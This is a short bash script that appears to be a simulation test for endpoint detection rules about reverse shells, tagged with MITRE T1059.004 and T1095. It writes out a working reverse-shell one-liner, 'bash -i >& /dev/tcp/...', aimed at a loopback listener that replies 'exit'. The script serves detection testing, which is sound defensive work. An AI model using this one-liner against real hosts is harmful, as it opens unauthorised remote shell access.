#!/usr/bin/env bash
# rule: command-and-control-reverse-shell-same-process
# also: command-and-control-shell-network-connection, command-and-control-interactive-shell-on-socket
# mitre: T1059.004, T1095
# bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 against a loopback listener that sends exit.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
listen --reply "exit\n"
port=$LISTEN_PORT
bash --norc --noprofile -i >& "/dev/tcp/127.0.0.1/$port" 0>&1
wait
